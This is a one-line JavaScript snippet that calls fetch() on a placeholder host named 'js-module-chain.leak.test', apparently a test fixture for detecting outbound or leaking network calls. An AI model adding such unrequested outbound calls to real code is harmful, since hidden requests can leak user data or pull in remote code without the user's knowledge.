fetch("https://js-module-chain.leak.test/")
